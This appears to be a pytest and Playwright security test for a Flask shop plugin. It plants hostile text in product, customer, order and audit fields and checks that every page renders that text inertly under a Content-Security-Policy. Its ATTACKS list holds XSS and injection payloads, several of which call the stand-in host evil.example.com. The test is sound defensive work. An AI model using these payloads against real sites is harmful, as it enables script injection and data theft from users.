"""What COVA, a shopper or a colleague may write stays text in a real browser, on every page.

Names, descriptions, specifications, reasons, customers and categories are planted through the
simulator and the host; then every page is opened, those of the host with our macros among them.
"""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator, Sequence
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path
from typing import TYPE_CHECKING, Any
from urllib.parse import quote

import pytest
from flask import Flask, render_template_string

from aiq_cova_plugin.domain.catalogue import FieldIssue
from aiq_cova_plugin.host import Category, Customer, Order, OrderLine, Store
from aiq_cova_plugin.services import audit
from aiq_cova_plugin.services.catalogue.sync_catalog import sync_catalog
from aiq_cova_plugin.services.orders.enqueue_order import enqueue_order
from aiq_cova_plugin.services.orders.push_orders import push_due_orders
from aiq_cova_plugin.simulator import Simulator
from aiq_cova_plugin.wiring import services_of

from tests.support.connected import connection_of, new_simulator, settings_for
from tests.support.live_server import LiveServer
from tests.unit.web.kit import NORTH, Records, close, tiny_shop
from tests.unit.web.reading_host import ReadingHost

if TYPE_CHECKING:
    from playwright.sync_api import Dialog, Page, Request

pytestmark = [pytest.mark.browser, pytest.mark.timeout(240)]

EVIL = "evil.example.com"
ATTACKS = [
    f"<script>new Image().src='https://{EVIL}/s';window.ran=1</script>",
    f"<img src=https://{EVIL}/i onerror=window.ran=1>",
    f'"><svg onload="window.ran=1;fetch(\'https://{EVIL}/f\')">',
    "' autofocus onfocus='alert(1)' x='",
    f"<style>@import 'https://{EVIL}/c';*{{color:red}}</style>",
    f'<iframe srcdoc="<script>top.ran=1</script>" src=https://{EVIL}/></iframe>',
    f"<div hx-get='https://{EVIL}/h' hx-trigger='load'>x</div>",
    f"<link rel=stylesheet href=https://{EVIL}/l><base href=https://{EVIL}/>",
    f"<meta http-equiv=refresh content='0;url=https://{EVIL}/'>",
    "</title></textarea></option></select></template>--><script>confirm(1)</script>",
    "javascript:alert(1)//{{ 7*7 }}{% raw %}",
    "\u202e<script>prompt(1)</script>\u2066\u200b",
]
POLICY = "default-src 'self'; img-src 'self' data:; object-src 'none'; base-uri 'none'"
WATCH = """
  window.broken = [];
  document.addEventListener("securitypolicyviolation",
    (event) => window.broken.push(event.violatedDirective + " " + event.blockedURI));
"""


class HostileHost(ReadingHost):
    """A shop whose categories, staff, stores and customers have hostile names."""

    def stores(self) -> Sequence[Store]:
        return [Store(NORTH, f"North {ATTACKS[0]}", "America/Denver", "US", "USD")]

    def categories(self, store_id: str) -> Sequence[Category]:
        return [Category(str(number), attack) for number, attack in enumerate(ATTACKS)]

    def current_user(self) -> str:
        return f"Robin {ATTACKS[1]}"


@pytest.fixture
def cova() -> Iterator[Simulator]:
    with new_simulator(products=20) as simulator:
        yield simulator


@pytest.fixture
def host() -> HostileHost:
    return HostileHost()


@pytest.fixture
def shop(tmp_path: Path, sqlite_url: str, cova: Simulator, host: HostileHost) -> Iterator[Flask]:
    app = tiny_shop(tmp_path, host, database_url=sqlite_url, **settings_for(cova))
    source = (
        "<!doctype html><html lang=en><title>Shop</title>"
        "{% from 'cova/macros.html' import cova_sync_button, cova_order_badge, "
        "cova_product_state, cova_store_health %}"
        "{% set _ = cova_product_states('north', ids) %}"
        "{{ cova_store_health('north') }}{{ cova_sync_button('north') }}"
        "{% for id in ids %}{{ cova_product_state('north', id) }}{% endfor %}"
        "{% for number in range(12) %}{{ cova_order_badge('north', 'o-' ~ number) }}{% endfor %}"
    )

    def products_page() -> str:
        return render_template_string(source, ids=list(cova.state.products))

    app.add_url_rule("/shop", "shop", products_page)

    @app.after_request
    def strict(response: Any) -> Any:
        response.headers.setdefault("Content-Security-Policy", POLICY)
        return response

    yield app
    close(app)


def plant(shop: Flask, cova: Simulator, host: HostileHost) -> Records:
    """Everything a stranger can write, written by an attacker; synced, pushed and refused."""
    records, ctx = Records(shop), services_of(shop)
    told = connection_of(cova)
    sealed = {f"{name}_encrypted": told.pop(name) for name in ("password", "client_secret")}
    records.connect(
        integrator_id=cova.integrator_id,
        **told,
        **{name: ctx.vault.encrypt(value) for name, value in sealed.items()},
    )
    for attack in ATTACKS:
        cova.register.add_product(
            name=attack,
            classification=f"Flower {attack}",
            specifications={"THC": attack, attack: attack, "COA": attack, "Brand": attack},
            long_description=attack,
            short_description=attack,
            measurement=attack,
        )
    with shop.app_context():
        sync_catalog(ctx, NORTH)
    for first in ATTACKS[:2]:
        cova.register.add_customer(first_name=first, last_name=ATTACKS[2], phones=["3035550166"])
    for number, attack in enumerate(ATTACKS):
        order_id = f"o-{number}"
        host.orders[order_id] = an_order(order_id, attack, cova)
        fault = cova.faults.add(
            "submit_order", action="status", status=400, body=json.dumps({"Message": attack})
        )
        with shop.app_context():
            with ctx.database.job_transaction():
                enqueue_order(ctx, host.orders[order_id])
            push_due_orders(ctx, NORTH)
        cova.faults.remove(fault.id)
    for number, attack in enumerate(ATTACKS):
        records.order(
            f"s-{number}", "needs_attention", reason=attack, fix=attack, warning=attack,
            order_number=attack, cova_status=attack, kind="Rejected",
            events=[("queued", attack), ("needs_attention", attack)],
        )  # fmt: skip
        with shop.app_context():
            audit.note(ctx, NORTH, "settings_saved", attack, by=attack, changed={attack: attack})
    records.run(
        status="failed", message=ATTACKS[0], fix=ATTACKS[2],
        issues=[FieldIssue(f"p-{number}", a, a) for number, a in enumerate(ATTACKS)],
    )  # fmt: skip
    return records


def an_order(order_id: str, attack: str, cova: Simulator) -> Order:
    is_shared = order_id.endswith("0")
    return Order(
        id=order_id,
        store_id=NORTH,
        number=attack,
        confirmed_at=datetime.now(UTC),
        customer=Customer(
            first_name=None if is_shared else attack,
            last_name=None if is_shared else attack,
            phone="(303) 555-0166" if is_shared else f"(303) 555-01{order_id[-1]}7",
            email="hostile@example.com",
            date_of_birth=date(1990, 1, 2),
        ),
        lines=[OrderLine(cova.ordinary_products()[0], attack, Decimal(1), Decimal("9.00"))],
        delivery=None,
        notes=attack,
    )


def addresses(shop: Flask, records: Records) -> list[str]:
    """Every page, and every thing on it that an attacker named."""
    products = [row["cova_product_id"] for row in records.rows("cova_product")]
    ids = {
        "order_id": ["o-0", f"s-{len(ATTACKS) - 1}"],
        "run_id": [row["id"] for row in records.rows("cova_run")],
        "product_id": [products[-1]],
    }
    found = ["/shop"]
    for rule in shop.url_map.iter_rules():
        if "store_id" not in rule.arguments or "GET" not in (rule.methods or ()):
            continue
        names = sorted(rule.arguments - {"store_id"})
        for chosen in ids[names[0]] if names else [""]:
            with shop.test_request_context():
                values = {"store_id": NORTH} | dict.fromkeys(names, chosen)
                found.append(str(rule.build(values)[1]))  # type: ignore[index]
    search = "?q=" + quote(ATTACKS[2])
    return found + [f"/cova/{NORTH}/{page}{search}" for page in ("orders", "products", "holds")]


def test_nothing_an_attacker_wrote_runs_asks_or_leaves(
    page: Page,
    shop: Flask,
    cova: Simulator,
    host: HostileHost,
    live_server: Callable[..., LiveServer],
) -> None:
    records, server = plant(shop, cova, host), live_server(shop)
    asked: list[str] = []
    wrong: list[str] = []

    def heard(request: Request) -> None:
        if EVIL in request.url.partition("?")[0]:
            asked.append(request.url)

    def opened(dialog: Dialog) -> None:
        wrong.append(f"dialog: {dialog.message}")
        dialog.dismiss()

    page.on("request", heard)
    page.on("dialog", opened)
    page.on("popup", lambda popup: wrong.append(f"window: {popup.url}"))
    page.add_init_script(WATCH)
    texts: list[str] = []
    for path in addresses(shop, records):
        answer = page.goto(server.at(path))
        assert answer is not None
        assert answer.status < 500, path
        if "html" not in answer.headers["content-type"]:
            continue
        texts.append(page.locator("body").inner_text())
        said = page.evaluate(
            "[window.ran ?? null, window.broken, Object.keys(localStorage), "
            "Object.keys(sessionStorage)]"
        )
        assert said[:3] == [None, [], []], (path, said)
        # The browser keeps the address it is at, and nothing of the page.
        assert set(said[3]) <= {"htmx-current-path-for-history"}, (path, said)
        assert page.url.startswith(server.url), path

    assert (asked, wrong) == ([], [])
    assert len(texts) > 18
    seen = "\n".join(texts)
    # Shown as it was written; otherwise empty pages would pass.
    assert [each for each in ATTACKS[:11] if each.strip("'\" ")[:40] not in seen] == []
    assert "\u202e" not in seen
    assert "\ufffd<script>prompt(1)</script>" in seen
